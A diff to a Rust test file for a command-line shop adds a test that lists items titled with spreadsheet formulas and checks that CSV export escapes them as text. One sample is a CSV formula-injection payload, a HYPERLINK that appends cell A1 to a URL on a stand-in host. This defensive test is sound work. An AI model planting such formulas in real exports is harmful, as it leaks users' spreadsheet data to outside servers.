@@ -83,6 +83,26 @@ async fn a_wrong_command_line_is_a_usage_error_that_says_what_is_meant() {
 }
 
 #[tokio::test(flavor = "multi_thread")]
+async fn formulas_are_texts_in_a_list_for_spreadsheets() {
+    let shop = Shop::open().await;
+    let bob = shop.bob().await;
+    let formulas = ["=HYPERLINK(\"http://example.test/?x=\"&A1,\"click\")", "+CALC", "@SUM(1+1)*cmd"];
+    for formula in formulas {
+        shop.alice.sell(draft(formula, "formulas", 100, 1)).await.expect("listed");
+    }
+    let begin = Instant::now();
+    while search(&bob, &["--category", "formulas"]).await.len() < formulas.len() {
+        assert!(begin.elapsed() < VISIBLE_WITHIN, "not all are found");
+    }
+    let list = bob.run(&["search", "--category", "formulas", "--output", "csv"]).await.out;
+    for formula in formulas {
+        let cell = formula.replace('"', "\"\"");
+        assert!(list.contains(&format!("'{cell}")), "{list}");
+        assert!(!list.contains(&format!(",{cell}")) && !list.contains(&format!(",\"{cell}")), "{list}");
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
 async fn a_buyers_day() {
     let shop = Shop::open().await;
     let (bob, id) = (shop.bob().await, shop.id());
